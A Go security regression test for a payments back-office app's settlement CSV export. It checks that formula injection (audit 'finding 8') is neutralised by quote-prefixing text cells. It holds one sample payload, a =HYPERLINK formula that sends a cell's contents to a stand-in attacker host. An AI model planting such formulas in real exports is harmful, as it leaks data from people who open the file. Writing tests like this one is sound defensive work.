package security_test

import (
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/pspbackoffice/backoffice/internal/auth"
	"github.com/pspbackoffice/backoffice/internal/domain"
)

// TestCSVExportNeutralisesFormulas reproduces finding 8 (formula injection): the
// settlement CSV wrote an order reference =HYPERLINK(…) verbatim, which a
// spreadsheet runs. Text cells starting with = + - @, tab or CR now start with a
// single quote; amounts stay numbers (a refund's net is still -25.00).
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	serve(t, func(t *testing.T, f *harness) {
		ctx := auth.System(context.Background())
		o := f.world.ByName["order A1/a/a"]
		st := f.world.ByName["settlement A1/a"]
		evil := `=HYPERLINK("https://evil.example/?"&A1,"details")`
		f.app.DB.Ent.Order.UpdateOneID(o.ID).SetReference(evil).ExecX(ctx)
		f.app.DB.Ent.SettlementEntry.Create().SetSettlementID(st.ID).SetPspID(st.PSP).SetMerchantID(st.Merch).
			SetCompanyID(st.Company).SetKind("REFUND").SetOrderID(o.ID).SetProductType(domain.ProductPayNowCard).
			SetAmountMinor(-2500).SetPayableDate(domain.Date("2026-11-01")).ExecX(ctx)

		req, _ := http.NewRequest(http.MethodGet, f.url+"/exports/settlements/"+st.ID+".csv", nil)
		req.Header.Set("Authorization", "Bearer "+f.credential("adminA1"))
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("export: %d %s", resp.StatusCode, body)
		}
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := func(name string) int { return slices.Index(rows[0], name) }
		var refund []string
		for _, r := range rows[1:] {
			for _, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isAmount(c) {
					t.Errorf("a text cell starts a formula: %q", c)
				}
			}
			if r[col("kind")] == "REFUND" {
				refund = r
			}
		}
		if refund == nil {
			t.Fatalf("no REFUND row in %s", body)
		}
		if got := refund[col("order_reference")]; got != "'"+evil {
			t.Errorf("order_reference = %q, want the quoted formula", got)
		}
		if got := refund[col("net")]; got != "-25.00" {
			t.Errorf("net = %q, want the number -25.00", got)
		}
	})
}

// isAmount tells a signed decimal, the only cell that may start with a minus.
func isAmount(s string) bool {
	s = strings.TrimPrefix(s, "-")
	return s != "" && strings.Trim(s, "0123456789.") == ""
}
